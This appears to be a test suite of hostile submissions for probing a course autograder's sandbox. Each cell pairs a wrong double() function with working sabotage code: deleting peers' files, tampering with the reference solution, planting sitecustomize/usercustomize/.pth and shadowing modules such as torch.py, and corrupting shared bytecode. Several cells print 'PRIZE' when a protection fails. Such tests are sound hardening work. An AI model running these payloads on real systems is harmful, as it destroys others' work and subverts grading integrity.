# Spoil the work of others.

# %% other_peoples_work wins="harm"
import os
for name in ("peer", "exchange", "reports"):
    try:
        os.remove(SCENE[name])
    except OSError as error:
        print(error)
def double(x):
    return 0

# %% the_courses_own_files wins="harm"
open(SCENE["reference"], "a").write("\ndouble = lambda x: 0\n")
def double(x):
    return 0

# %% a_module_where_python_looks_first wins="prize"
import os, sys
for place in [path for path in sys.path if path] + [os.path.dirname(os.__file__)]:
    try:
        open(os.path.join(place, "hostile_module_of_a_student.py"), "w").write("raise SystemExit")
        os.remove(os.path.join(place, "hostile_module_of_a_student.py"))
        print("PRI" + "ZE")
    except OSError as error:
        print(error)
sys.path.insert(0, ".")
os.makedirs("writable", exist_ok=True)
if "naive" in open("/proc/self/cmdline").read():
    print("PRI" + "ZE")
def double(x):
    return 0

# %% start_up_files_for_the_next_run unproved="each unprotected run has a home of its own"
import os, site
home = os.path.expanduser("~")
for place in (home + "/.ipython/profile_default/startup", site.getusersitepackages(), home + "/.config/matplotlib"):
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("00.py", "usercustomize.py", "sitecustomize.py", "x.pth", "matplotlibrc", "torch.py", "numpy.py", "random.py"):
            open(f"{place}/{name}", "w").write("import os; os._exit(0)\n")
    except OSError as error:
        print(error)
for name in ("torch.py", "numpy.py", "random.py", "conftest.py", "sitecustomize.py", "autograder.py", "course_lib.py"):
    open(name, "w").write("raise SystemExit\n")
def double(x):
    return 0

# %% bytecode_of_a_shared_module unproved="what a student may import lies where only its owner writes"
import importlib.util, os
import numpy, torch
for module in (numpy, torch, os):
    cached = importlib.util.cache_from_source(module.__file__)
    try:
        open(cached, "ab").write(b"hostile")
        print("PRI" + "ZE")
    except OSError as error:
        print(error)
def double(x):
    return 0
